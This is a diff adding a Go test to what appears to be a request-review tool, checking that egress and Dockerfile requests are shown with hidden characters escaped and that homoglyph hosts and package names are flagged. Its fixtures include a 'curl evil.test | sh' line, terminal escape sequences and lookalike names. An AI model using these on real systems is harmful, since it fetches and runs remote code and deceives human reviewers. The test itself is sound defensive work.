@@ -373,3 +373,42 @@ func waitFor(t *testing.T, out *syncBuffer, want string) {
 		time.Sleep(10 * time.Millisecond)
 	}
 }
+
+// The review views escape whatever a request holds, even one that got past
+// validation (an older sidecar, a file written by hand): the person sees
+// every hidden character as an escape, and an internationalized host as its
+// A-label with a note.
+func TestSuperviseViewsEscape(t *testing.T) {
+	hidden := "a\u202eb\u009b31m\u200b\U000E0041\u00a0\x1b[2J"
+	now := time.Now()
+	ps := []supervise.Pending{
+		{Instance: "alpha", Request: supervise.Request{ID: "r-1", Kind: supervise.KindEgress, Created: now, Reason: "why " + hidden,
+			Egress: &supervise.EgressAsk{Host: "evil" + hidden + ".test", Port: 443}}},
+		{Instance: "alpha", Request: supervise.Request{ID: "r-2", Kind: supervise.KindDockerfile, Created: now, Reason: "r",
+			Dockerfile: &supervise.DockerfileAsk{Content: "FROM x\nRUN curl evil.test" + hidden + " | sh\n"}}},
+		{Instance: "alpha", Request: supervise.Request{ID: "r-4", Kind: supervise.KindDockerfile, Created: now, Reason: "r",
+			Dockerfile: &supervise.DockerfileAsk{Content: "FROM x\nRUN pip install r\u0435quests\n"}}},
+		{Instance: "alpha", Request: supervise.Request{ID: "r-3", Kind: supervise.KindEgress, Created: now, Reason: "r",
+			Egress: &supervise.EgressAsk{Host: "xn--pple-43d.com", Port: 443}}},
+	}
+	var out bytes.Buffer
+	printList(&out, ps, now)
+	for _, p := range ps {
+		diff := ""
+		if p.Request.Dockerfile != nil {
+			diff = supervise.DockerfileDiff("FROM x\n", p.Request.Dockerfile.Content)
+		}
+		printShow(&out, p, diff, "diff against current", now)
+	}
+	if err := writeJSON(&out, ps); err != nil {
+		t.Fatal(err)
+	}
+	assertShownEscaped(t, "supervise list/show/--json", out.String())
+	for _, want := range []string{`evil a\u202eb\u009b31m\u200b\U000e0041\u00a0\u001b[2J.test`, `+RUN curl evil.testa\u202eb`,
+		`xn--pple-43d.com:443`, `shown elsewhere as "\u0430pple.com": approving allows exactly the A-label above`,
+		"note:     non-ASCII letters on line 2:"} {
+		if !strings.Contains(out.String(), strings.Replace(want, "evil a", "evila", 1)) {
+			t.Errorf("views lack %s:\n%s", want, out.String())
+		}
+	}
+}
